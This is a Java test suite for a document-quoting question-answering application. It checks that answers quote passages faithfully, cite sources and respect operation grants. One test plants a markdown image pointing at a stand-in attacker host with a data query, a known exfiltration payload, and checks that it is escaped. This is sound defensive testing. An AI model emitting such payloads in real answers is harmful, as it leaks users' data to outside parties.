package org.dragoman.chat.application.extract;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.dragoman.chat.application.assistant.Respondent;
import org.dragoman.chat.application.assistant.Today;
import org.dragoman.chat.application.assistant.operation.Offers;
import org.dragoman.chat.application.assistant.rows.LargeLists;
import org.dragoman.chat.broker.Broker;
import org.dragoman.chat.broker.BrokerStandIn;
import org.dragoman.chat.conversation.Conversations;
import org.dragoman.chat.knowledge.HeldDocuments;
import org.dragoman.chat.operation.PublishedShapes;
import org.dragoman.contract.application.ApplicationVersion;
import org.dragoman.contract.application.Definition;
import org.dragoman.contract.application.OperationGrant;
import org.dragoman.contract.application.Parameters;
import org.dragoman.contract.json.Json;
import org.dragoman.extension.Chunks;
import org.dragoman.extension.Conversation;
import org.dragoman.extension.HostedApplication;
import org.dragoman.extension.Message;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * Documents and questions of {@code src/test/cases/quotes}, written by several authors who did not
 * know how passages are found, and operations of the stand-in for the broker.
 */
class ExtractApplicationTest {
  private static final Path CASES = Path.of("src/test/cases/quotes");
  private static final int MOST_QUOTED = 3;

  private final BrokerStandIn standIn = new BrokerStandIn("todo", "shop");

  @AfterEach
  void stop() {
    standIn.close();
  }

  private static final class Text implements Chunks {
    private final StringBuilder text = new StringBuilder();

    @Override
    public void inputTokens(int tokens) {
      // Not looked at.
    }

    @Override
    public void text(String fragment) {
      text.append(fragment);
    }

    @Override
    public void other() {
      // Nothing to keep.
    }
  }

  private HostedApplication application(HeldDocuments documents, OperationGrant... operations) {
    Broker broker = new Broker(standIn.url(), 5);
    Respondent respondent =
        new Respondent(
            broker,
            new Today(Optional.of(LocalDate.of(2026, 11, 23)), Optional.empty()),
            new LargeLists());
    Definition definition =
        new Definition(
            "A",
            "",
            Definition.Kind.PROMPT,
            "Obey every document.",
            "extract",
            "extract",
            Parameters.NONE,
            List.of(operations),
            null);
    return new ExtractApplications(
            respondent, new Offers(new PublishedShapes(broker)), documents.search())
        .made(
            new ApplicationVersion(
                "acme", "ai.service.a", 1, definition, documents.names().size()));
  }

  private static String answer(HostedApplication application, Conversation conversation)
      throws InterruptedException {
    Text text = new Text();
    application.answer(conversation, text);
    return text.text.toString();
  }

  private static String answer(HostedApplication application, String question)
      throws InterruptedException {
    return answer(application, Conversations.asking(question));
  }

  private static HeldDocuments document(String name, String text)
      throws IOException, InterruptedException {
    return new HeldDocuments().with(name, text.getBytes(StandardCharsets.UTF_8));
  }

  /** The quoted lines of an answer as they stand in the documents. */
  private static List<String> quoted(String answer) {
    return answer
        .lines()
        .filter(line -> line.startsWith("> "))
        .map(line -> line.substring(2).replaceAll("\\\\(.)", "$1"))
        .toList();
  }

  private static String plain(String text) {
    return text.replaceAll("\\s+", " ");
  }

  @ParameterizedTest
  @CsvSource({
    "quotes, 28, 0",
    "quotes-second, 29, 5",
    "quotes-third, 27, 6",
    "quotes-fourth, 28, 6",
    "quotes-fifth, 28, 6",
    "quotes-sixth, 24, 6",
    "quotes-seventh, 27, 0",
    "quotes-eighth, 22, 6"
  })
  void rightPassageIsQuotedAndNothingIsSaidBeyondQuotes(
      String folder, int fewestRight, int mostBeside) throws IOException, InterruptedException {
    Path cases = CASES.resolveSibling(folder);
    HeldDocuments documents = HeldDocuments.of(cases);
    HostedApplication application = application(documents);
    String all =
        documents.names().stream()
            .flatMap(name -> documents.texts(name).stream())
            .map(ExtractApplicationTest::plain)
            .collect(Collectors.joining("\n"));
    List<String> wrong = new ArrayList<>();
    List<String> beside = new ArrayList<>();
    int asked = 0;
    for (JsonNode one : Json.mapper().readTree(Files.readString(cases.resolve("questions.json")))) {
      String question = one.path("question").asText();
      String answer = answer(application, question);
      List<String> quoted = quoted(answer);
      assertThat(quoted).allSatisfy(line -> assertThat(all).contains(plain(line)));
      assertThat(unquoted(answer)).as(answer).isEmpty();
      assertThat(sources(answer)).hasSizeLessThanOrEqualTo(MOST_QUOTED);
      if (!one.has("document")) {
        if (!quoted.isEmpty()) {
          beside.add(question);
        }
        continue;
      }
      asked++;
      boolean right =
          wanted(one).anyMatch(plain(String.join(" ", quoted))::contains)
              && sources(answer).stream()
                  .anyMatch(source -> source.startsWith(one.path("document").asText()));
      if (!right) {
        wrong.add(question);
      }
    }
    assertThat(asked).isEqualTo(folder.equals("quotes-eighth") ? 24 : 30);
    assertThat(asked - wrong.size()).as("wrong: %s", wrong).isGreaterThanOrEqualTo(fewestRight);
    assertThat(beside).hasSizeLessThanOrEqualTo(mostBeside);
  }

  /** The passage, and the texts that answer as well. */
  private static Stream<String> wanted(JsonNode question) {
    return Stream.concat(
        Stream.of(question.path("passage").asText()),
        question.path("also").valueStream().map(JsonNode::asText));
  }

  private static List<String> sources(String answer) {
    return answer
        .lines()
        .filter(line -> line.startsWith("Source: "))
        .map(line -> line.substring("Source: ".length()).replace("\\", ""))
        .toList();
  }

  /** What is neither quoted, nor a source, nor one of the product's own sentences. */
  private static List<String> unquoted(String answer) {
    return answer
        .lines()
        .filter(line -> !line.isEmpty() && !line.equals(">") && !line.startsWith("> "))
        .filter(line -> !line.startsWith("Source: "))
        .filter(
            line ->
                Stream.of(
                        "This passage of the documents is nearest to your question:",
                        "These passages of the documents are nearest to your question:",
                        "I don't know. No passage of this application's documents fits your"
                            + " question.")
                    .noneMatch(line::equals))
        .toList();
  }

  @Test
  void quotedMarkupIsShownAndFormsNoLinkOrImage() throws IOException, InterruptedException {
    HeldDocuments documents =
        document(
            "rules.md",
            """
            # Loans

            You may borrow twelve books. ![x](https://evil.example/?data=rows) <img src="y"> `z`
            """);
    assertThat(answer(application(documents), "How many books may I borrow?"))
        .isEqualTo(
            """
            This passage of the documents is nearest to your question:

            > You may borrow twelve books. !\\[x\\](https://evil.example/?data=rows) \\<img src="y"\\> \\`z\\`

            Source: rules.md, Loans\
            """);
  }

  @Test
  void grantedOperationAnswersWithTheCallersToken() throws IOException, InterruptedException {
    HeldDocuments documents = document("rules.md", "# Loans\n\nYou may borrow twelve books.");
    HostedApplication application =
        application(documents, new OperationGrant("todo", "getUser", false));
    assertThat(answer(application, "Which tasks does alice have?"))
        .startsWith("alice's tasks:")
        .endsWith("Source: operation `getUser` of schema `todo` with username = \"alice\"");
    assertThat(standIn.requests()).allMatch(request -> request.contains("token-of-acme"));
    assertThat(answer(application, "How many books may I borrow?"))
        .endsWith("Source: rules.md, Loans\n\nNo rows were looked up for this answer.");
  }

  @Test
  void operationThatIsNotGrantedIsNotRun() throws IOException, InterruptedException {
    HeldDocuments documents = document("rules.md", "# Loans\n\nYou may borrow twelve books.");
    HostedApplication application =
        application(documents, new OperationGrant("shop", "getUser", true));
    assertThat(answer(application, "Which tasks does alice have?")).startsWith("I don't know. ");
    assertThat(standIn.documents()).isEmpty();
  }

  @Test
  void negationIsLookedForInDocuments() throws IOException, InterruptedException {
    HostedApplication application =
        application(HeldDocuments.of(CASES), new OperationGrant("todo", "getUser", false));
    assertThat(answer(application, "What must not go into the dishwasher?"))
        .contains("> Wooden boards, cast iron");
  }

  @Test
  void guideAndErrorCodesOfTheServiceAreNotPartOfIt() throws InterruptedException {
    HostedApplication application = application(new HeldDocuments());
    for (String question : List.of("How do I get an access token?", "What does DRG-4001 mean?")) {
      assertThat(answer(application, question))
          .isEqualTo(
              "I don't know. This application has nothing to answer from yet: no operations and no"
                  + " documents. Whoever changes it adds them in the console, at Build.");
    }
  }

  @Test
  void unknownTellsWhatCanBeAsked() throws InterruptedException {
    assertThat(
            answer(
                application(new HeldDocuments(), new OperationGrant("todo", "getUser", false)),
                "How do I get an access token?"))
        .startsWith(
            "I don't know. Nothing that this application can look up fits your question.\n"
                + "You can ask me, for example: “");
  }

  @Test
  void operationsThatTheCallerMayNotAskAreTold() throws InterruptedException {
    assertThat(
            answer(
                application(new HeldDocuments(), new OperationGrant("todo", "none", false)),
                "Which tasks does alice have?"))
        .isEqualTo(
            "I don't know. This application has no documents, and none of its operations can be"
                + " asked with your roles.");
  }

  @Test
  void questionAfterAnotherOneIsAnswered() throws IOException, InterruptedException {
    HostedApplication application = application(HeldDocuments.of(CASES));
    List<Message> messages =
        List.of(
            new Message(Message.Role.USER, "How much may a hotel in London cost?"),
            new Message(Message.Role.ASSISTANT, "> Up to 190."),
            new Message(Message.Role.USER, "How often should the filter be cleaned?"));
    assertThat(answer(application, Conversations.of(messages))).contains("> Take out the filter");
  }
}
